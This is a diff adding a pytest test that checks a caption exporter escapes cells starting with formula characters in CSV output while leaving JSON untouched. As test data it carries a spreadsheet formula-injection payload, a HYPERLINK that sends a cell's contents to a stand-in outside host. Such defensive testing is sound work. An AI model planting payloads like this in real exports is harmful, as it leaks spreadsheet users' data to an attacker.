@@ -206,3 +206,13 @@ def test_every_format_has_its_type() -> None:
 )
 def test_names_stay_within_a_folder_and_apart(names: list[str], safe: list[str]) -> None:
     assert file_names(names) == safe
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝"])
+def test_no_cell_is_a_formula(begin: str) -> None:
+    text = f'{begin}HYPERLINK("http://elsewhere/?"&A1)'
+    made = [Caption(f"{begin.strip()}1.png", b"a", text), Caption("b.png", b"b", f"a {text}")]
+    _, first, second = csv.reader(io.StringIO(write(made, "csv").decode("utf-8-sig"), newline=""))
+    assert first == [f"'{begin.strip()}1.png", f"'{text}"]
+    assert second == ["b.png", f"a {text}"]
+    assert json.loads(write(made, "json"))[0]["caption"] == text  # JSON is calculated by nobody
